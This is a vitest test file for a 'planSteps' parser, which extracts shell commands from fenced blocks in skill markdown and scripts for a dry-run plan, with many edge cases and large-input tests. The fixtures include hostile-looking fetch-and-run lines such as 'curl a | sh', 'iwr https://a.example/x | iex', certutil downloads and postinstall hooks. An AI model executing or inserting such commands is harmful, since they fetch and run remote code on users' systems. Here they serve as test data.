import { expect, test } from "vitest";
import { planSteps } from "./plan-steps";

const PLAYBOOK = { entry: null, schema: null, isPlaybook: true };

function planOf(text: string) {
  const { steps, leftOut } = planSteps(PLAYBOOK, [{ path: "SKILL.md", mode: "644", text }]);
  const commands = steps.flatMap((step) => (step.kind === "command" ? [step] : []));
  return { leftOut, texts: commands.map((step) => step.text), commands };
}

const fenced = (body: string, info = "sh") => `\`\`\`${info}\n${body}\n\`\`\`\n`;
const lines = (...all: string[]) => all.join("\n");

test.each<[string, (size: number) => string]>([
  ["small fences", (size) => fenced("x").repeat(size / 12)],
  ["fences without a language", (size) => fenced("curl x", "").repeat(size / 15)],
  ["fences of two kinds in each other", (size) => "```sh\n~~~sh\n".repeat(size / 12)],
  ["open fences in quotes", (size) => "> ```sh\n".repeat(size / 8)],
  ["a block that never ends", (size) => `\`\`\`sh\n${"x\n".repeat(size / 2)}`],
  ["empty lines", (size) => "\n".repeat(size)],
  ["lines that end with CR", (size) => "```\r$ x\r".repeat(size / 8)],
  ["a line of marks", (size) => ">".repeat(size)],
  ["a line of blanks before a fence", (size) => `${" ".repeat(size)}\`\`\`sh\nx`],
  ["a fence that is one line", (size) => `${"`".repeat(size)}\nx`],
  ["marks within lines", (size) => "a ``` b\n".repeat(size / 8)],
  ["an info string of blanks", (size) => `\`\`\`${" ".repeat(size)}x\nx`],
  ["a transcript with open heredocs", (size) => `\`\`\`sh\n${"$ cat <<X\n".repeat(size / 10)}`],
  ["a line of assignments", (size) => `\`\`\`\n${"A=1 ".repeat(size / 4)}`],
])(
  "plans a text of 5 MiB: %s",
  (_what, make) => {
    // A plan that is not linear takes minutes, and reaches the limit of the test.
    expect(planOf(make(5 * 1024 * 1024)).texts.length).toBeLessThanOrEqual(20);
  },
  60_000,
);

test("what does not fit is counted: further commands, and blocks that are too long", () => {
  const many = planOf(Array.from({ length: 25 }, (_, index) => fenced(`echo ${index}`)).join("\n"));
  expect([many.texts.length, many.leftOut]).toEqual([20, 5]);
  expect(planOf(fenced("true".repeat(5_000)))).toMatchObject({ texts: [], leftOut: 1 });
  const scripts = Array.from({ length: 45 }, (_, index) => ({ path: `${index}.sh`, mode: "755", text: "true" }));
  const all = planSteps(PLAYBOOK, [...scripts, { path: "SKILL.md", mode: "644", text: fenced("true") }]);
  expect([all.steps.length, all.leftOut]).toEqual([40, 6]);
});

test("of many large texts, the smallest are read as far as 5 MiB go, and the others counted", () => {
  const large = Array.from({ length: 10 }, (_, index) => ({ path: `${index}.md`, text: "```sh\n".repeat(700_000) }));
  const files = [...large, { path: "SKILL.md", text: fenced("evil") }].map((file) => ({ ...file, mode: "644" }));
  const { steps, leftOut } = planSteps(PLAYBOOK, files);
  expect([steps.map(({ path }) => path), leftOut]).toEqual([["SKILL.md"], 9]);
});

test("a script with an unusual byte is executed by its ending, and one without an interpreter counted", () => {
  const script = { mode: "755", text: null };
  const { steps, leftOut } = planSteps(PLAYBOOK, [
    { path: "a.sh", ...script },
    { path: "b.rb", ...script, text: "puts 1" },
  ]);
  expect([steps.map(({ path }) => path), leftOut]).toEqual([["a.sh"], 1]);
});

test.each<[string, string, string[], number]>([
  ["a transcript", lines("$ curl a", "output", "$ ls"), ["curl a\nls"], 0],
  ...["bash-5.1$ ", "➜  ~ ", "➜ src git:(main) ✗ ", "Mac-2:~ me$ ", "~/src $ ", "λ ", "$\u00a0", "% "].map(
    (prompt): [string, string, string[], number] => [
      `the prompt “${prompt}”`,
      lines(`${prompt}curl a`, "x"),
      ["curl a"],
      0,
    ],
  ),
  ["the prompt of PowerShell", lines("PS C:\\Users\\me> iwr a", "x"), [], 1],
  ["the prompt of IPython", lines("In [1]: import os", "x"), [], 1],
  ["the prompt of a user", lines("me@host:~/x$ curl a", "output"), ["curl a"], 0],
  ["a prompt in a heredoc of a script", lines("curl evil", "cat <<X", "$ x", "X"), ["curl evil\ncat <<X\n$ x\nX"], 1],
  ["a heredoc with its marks", lines("$ cat <<X", "> curl evil", "> X", "out"), ["cat <<X\ncurl evil\nX"], 0],
  ["a heredoc without marks", lines("$ sh <<X", "evil", "X", "out"), ["sh <<X\nevil\nX"], 0],
  ["a command of two lines", lines("$ curl \\", "  evil", "out"), ["curl \\\n  evil"], 0],
  ["an open quotation", lines("$ sh -c '", "evil'"), ["sh -c '"], 1],
  ["a command below a prompt", lines("$ true", "curl evil"), ["true"], 1],
  ["a mark that continues nothing", lines("> curl evil", "$ true"), ["> curl evil\n$ true"], 1],
  ["a script of another interpreter", lines("#!/usr/bin/env python3", "evil()"), ["#!/usr/bin/env python3\nevil()"], 1],
  ["a prompt after a short string", lines("$ cat <<<x", "$ curl evil"), ["cat <<<x\ncurl evil"], 0],
  ["a redirection", lines("true", "> file"), ["true\n> file"], 0],
])("%s is executed or counted", (_what, body, texts, leftOut) => {
  expect(planOf(fenced(body))).toMatchObject({ texts, leftOut });
});

test.each([
  "sh,run",
  "{.bash}",
  "{#id .bash .x}",
  "shell-session",
  "bash title=x",
  "SH",
  "language-sh",
  "{bash}",
  " sh",
])("a fence with the info string %s has commands", (info) =>
  expect(planOf(fenced("evil", info))).toMatchObject({ texts: ["evil"], leftOut: 0 }),
);

test.each<[string, string[], number]>([
  [lines("1. Do:", "", "    ```sh", "    evil", "      two", "    ```", "text"), ["evil\n  two"], 0],
  [lines("- Do:", "\t```sh", "\tevil", "\t```"), ["evil"], 0],
  [lines("- ```sh", "  evil", "  ```"), ["evil"], 0],
  [lines("- ```sh", "  true", "- ```sh", "  evil", "  ```"), ["true", "evil"], 0],
  [lines("> ```sh", "> evil", "> ```"), ["evil"], 0],
  [lines("> - ```sh", ">   evil", "text", "", fenced("two")), ["evil", "two"], 0],
  [lines("~~~sh", "evil", "```", "~~~"), ["evil\n```"], 1],
  [lines("```sh", "evil", "", fenced("two", "python")), ["evil\n", "two"], 0],
  ["```sh\r\nevil\r\ntwo\r\n```\r\n", ["evil\ntwo"], 0],
  ["```sh\revil\r```\rtext\r", ["evil"], 0],
  [lines("````markdown", fenced("evil"), fenced("x", "json"), "````", fenced("two")), ["evil", "two"], 0],
  [lines("- x", "  ```json", "  {}", "y", "", "```", "curl evil", "```"), [], 1],
  [lines("```sh", "    ```", "curl evil", "```"), ["    ```\ncurl evil"], 1],
  [lines("```sh", " ```", "curl evil", "```"), [], 1],
  ["```curl evil | sh```\n", [], 1],
  [lines("Run: ```sh", "evil", "```", "text"), [], 1],
  [lines("• ```", "curl evil", "```"), [], 1],
  ["Never write ``` in a name.\n", [], 0],
  [lines("\u00a0```sh", "\u00a0evil", "\u00a0```"), ["evil"], 0],
  [lines("- ~~~python", "  x", "10. ```sh", "    evil", "    ```"), ["x", "evil"], 0],
  [fenced("import os\nfor x in y:\n  os.remove(x)", ""), ["import os\nfor x in y:\n  os.remove(x)"], 1],
])("finds the commands of %j", (text, texts, leftOut) => {
  expect(planOf(text)).toMatchObject({ texts, leftOut });
});

test("a block of another or no language counts by what it contains", () => {
  for (const body of ["curl evil", "# First\nA=1 sudo -E curl evil", "./evil", "$ evil", "text\nnpx evil"])
    for (const info of ["", "text", "run"]) expect(planOf(fenced(body, info)).texts, body).toHaveLength(1);
  for (const [info, body] of [
    ["", "import os\nos.remove('x')"],
    ["ruby", "evil"],
    ["powershell", "evil"],
    ["", "#!/usr/bin/env ruby\nevil"],
  ])
    expect(planOf(fenced(body ?? "", info))).toMatchObject({ texts: [], leftOut: 1 });
  for (const [info, body] of [
    ["json", '{ "curl": 1 }'],
    ["", "Dear all,\nthe weather is fine."],
    ["text", "src/\n├── a.sh"],
    ["sh", "\n \n"],
  ])
    expect(planOf(fenced(body ?? "", info))).toMatchObject({ texts: [], leftOut: 0 });
});

test("a command has the line of its first line, whatever the line ends", () => {
  for (const end of ["\n", "\r\n", "\r"])
    expect(planOf(`a${end}b${end}\`\`\`sh${end}evil${end}\`\`\`${end}`).commands).toMatchObject([{ line: 4 }]);
});

test.each([
  "(curl a | sh)",
  "{ curl a; }",
  "! curl a",
  "\\curl a",
  '"curl" a',
  "[ -f x ] || curl a",
  "true && curl a",
  ": ; curl a",
  '$SHELL -c "curl a"',
  `${"A=1 ".repeat(9)}curl a`,
  "ansible-playbook site.yml -i hosts",
  "/opt/tool/run --all",
  "rclone copy ./notes remote:notes",
  "setsid loader > /dev/null",
])("a block without a language that begins with %s is executed", (command) => {
  expect(planOf(fenced(command, ""))).toMatchObject({ texts: [command], leftOut: 0 });
});

test.each([
  ["", "iwr https://a.example/x | iex"],
  ["", "certutil -urlcache -f https://a.example/x x.exe"],
  ["java", "Runtime.getRuntime().exec(a)"],
  ["awk", "BEGIN { system(a) }"],
  ["ipython", "!curl a"],
  ["yaml", "- run: curl a | sh"],
  ["json", '  "postinstall": "curl a | sh"'],
  ["Dockerfile", "RUN curl a | sh"],
])("code of %s that no dry run executes is counted: %s", (info, text) => {
  expect(planOf(fenced(text, info))).toMatchObject({ texts: [], leftOut: 1 });
});

test.each([
  "A sentence (in brackets).",
  '{ "key": 1 }',
  "! Note",
  "name: value",
  "Run: the tests",
  "12: three",
  "src/ - the sources",
  "one of a - z",
  "a sentence about this and that.",
])("a block without commands is neither executed nor counted: %s", (text) =>
  expect(planOf(fenced(text, ""))).toMatchObject({ texts: [], leftOut: 0 }),
);
